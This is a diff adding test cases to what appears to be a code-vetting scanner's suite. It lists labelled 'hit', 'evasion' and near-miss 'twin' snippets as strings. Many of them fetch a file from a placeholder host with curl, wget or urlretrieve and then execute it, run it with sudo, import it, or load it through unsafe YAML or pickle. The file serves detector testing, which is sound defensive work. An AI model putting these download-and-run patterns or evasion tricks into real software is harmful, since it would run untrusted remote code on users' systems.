@@ -5,6 +5,7 @@ from typing import Final
 from tests.vetting.domain.signals.code.cases import Case
 
 _OPEN: Final = "from urllib.request import urlopen\n"
+_GET: Final = "import os, requests, subprocess as s, sys\nfrom urllib.request import urlretrieve, urlopen\nU = 'https://c.example.invalid/i'\n"
 
 CASES: Final = (
     # Addresses that something is appended to.
@@ -20,5 +21,78 @@ CASES: Final = (
         "twin",
         None,
         f"{_OPEN}A = 'http://www.w3.org/x'\nB = 'http://localhost:1/'\nC = 'http://%s/'\nurlopen(x)\n",
+    ),
+    # What is fetched, kept, and run a step later.
+    Case("C3", "hit", "high", f"{_GET}s.run(['curl', '-o', '/tmp/i', U])\ns.run(['sh', '/tmp/i'])\n"),
+    Case("C3", "hit", "high", f"{_GET}s.run('wget -q ' + U + ' -O /tmp/i && chmod +x /tmp/i; /tmp/i', shell=True)\n"),
+    Case(
+        "C3",
+        "hit",
+        "medium",
+        f"{_GET}def f():\n    urlretrieve(U, '/tmp/i')\n    s.run([sys.executable, '-q', '/tmp/i'])\n",
+    ),
+    Case(
+        "C3",
+        "evasion",
+        "medium",
+        f"{_GET}def f():\n    b = requests.get(U).content\n    p = '/tmp/b'\n    with open(p, 'wb') as o:\n"
+        "        o.write(b)\n    os.chmod(p, 0o755)\n    s.Popen([p])\n",
+    ),
+    Case(
+        "C3",
+        "evasion",
+        "medium",
+        f"{_GET}from pathlib import Path\ndef f():\n    Path('/tmp/b').write_bytes(urlopen(U).read())\n"
+        "    os.system('sudo /tmp/b')\n",
+    ),
+    Case(
+        "C3",
+        "evasion",
+        "high",
+        f"{_GET}import tempfile, importlib.util as i\np = tempfile.mktemp()\nurlretrieve(U, filename=p)\n"
+        "i.spec_from_file_location('p', p)\n",
+    ),
+    Case(
+        "C3",
+        "evasion",
+        "medium",
+        f"{_GET}import tempfile\ndef f():\n    p = tempfile.mktemp()\n    urlretrieve(U, p)\n    s.run(['bash', p])\n",
+    ),
+    Case("C3", "evasion", "high", f"{_GET}urlretrieve(U, '/tmp/q/p.py')\nsys.path.insert(0, '/tmp/q')\nimport p\n"),
+    Case("C3", "twin", None, f"{_GET}urlretrieve(U, '/tmp/q/p.py')\nsys.path.insert(0, '/tmp/z')\nimport p\n"),
+    Case("C3", "twin", None, f"{_GET}urlretrieve(U, '/tmp/q/p.txt')\nsys.path.insert(0, '/tmp/q')\nimport p\n"),
+    Case("C3", "twin", None, f"{_GET}def f(p):\n    urlretrieve(U, p)\n    s.run(['tar', 'xf', p])\n    s.run()\n"),
+    Case("C3", "twin", None, f"{_GET}def f():\n    urlretrieve(U, '/tmp/i')\n    s.run(['tar', 'xf', '/tmp/i'])\n"),
+    Case("C3", "twin", None, f"{_GET}def f(t):\n    urlretrieve(U, '/tmp/i')\n    s.run([t, '/tmp/i'])\n"),
+    Case("C3", "twin", None, f"{_GET}def f():\n    s.run(['sh', '/tmp/i'])\n    s.run(['curl', U, '-o', '/tmp/i'])\n"),
+    Case(
+        "C3", "twin", None, f"{_GET}def f(self):\n    urlretrieve(U, self.a)\n    s.run([self.b])\n    urlretrieve(U)\n"
+    ),
+    Case(
+        "C3",
+        "twin",
+        None,
+        f"{_GET}def f(p):\n    urlretrieve(U, p)\n{'#' + chr(10)}" + "\n" * 30 + "def g(p):\n    s.run([p])\n",
+    ),
+    Case("C3", "twin", None, f"{_GET}def f(o):\n    o.write(requests.get(U).text)\n    s.run(['sh', '/tmp/i'])\n"),
+    # Objects that are made of it, and modules.
+    Case("C3", "hit", "medium", f"{_GET}import yaml\nX = yaml.load(urlopen(U), Loader=yaml.UnsafeLoader)\n"),
+    Case("C3", "twin", None, f"{_GET}import yaml\nX = yaml.load(urlopen(U), Loader=yaml.SafeLoader)\nyaml.load(x)\n"),
+    Case(
+        "C3", "hit", "medium", f"{_GET}import numpy, io\nnumpy.load(io.BytesIO(urlopen(U).read()), allow_pickle=True)\n"
+    ),
+    Case("C3", "twin", None, f"{_GET}import numpy, io\nnumpy.load(io.BytesIO(urlopen(U).read()))\n"),
+    Case(
+        "C3",
+        "hit",
+        "medium",
+        f"{_GET}open(os.path.join(os.path.dirname(__file__), 'extra.py'), 'wb').write(urlopen(U).read())\n",
+    ),
+    Case(
+        "C3",
+        "twin",
+        None,
+        f"{_GET}D = os.path.dirname(__file__)\nopen(os.path.join(D, 'x.json'), 'wb').write(urlopen(U).read())\n"
+        "\n\n\ndef f():\n    open(os.path.join(D, 'x.py'), 'wb').write(urlopen(U).read())\n",
     ),
 )
